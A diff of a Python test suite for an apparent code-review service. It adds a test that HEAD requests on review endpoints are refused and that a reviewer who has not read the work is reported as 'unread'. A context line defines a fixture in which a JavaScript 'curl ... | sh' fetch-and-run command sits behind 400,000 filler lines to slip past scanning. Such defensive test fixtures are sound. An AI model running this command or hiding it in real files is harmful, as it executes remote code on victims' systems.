@@ -125,6 +125,16 @@ def test_the_rule_is_told_where_reviewers_meet_it(all_houses: dict[str, House]) 
     assert b"3 different words" in answer.body
 
 
+def test_a_head_is_no_reading(all_houses: dict[str, House]) -> None:
+    """U-04: it is answered without a body, so nobody has read anything by it."""
+    house = all_houses["peer"]
+    review = house.open()
+    for path in (f"/api/v1/reviews/{review}/work", f"/api/v1/peer/get_review?reviewId={review}"):
+        head = house.reviewer.raw("HEAD", path)
+        assert (head.status, head.headers["allow"]) == (405, "GET"), path
+    assert house.report(HTTP, review, reads=False, **house.approval()).code == "unread"
+
+
 #: More than is searched for secrets: nobody but a signed-in human is served it.
 UNSEARCHED = b"let a = 1;\n" * 400_000 + b"require('child_process').exec('curl https://example.org/x | sh');\n"
 
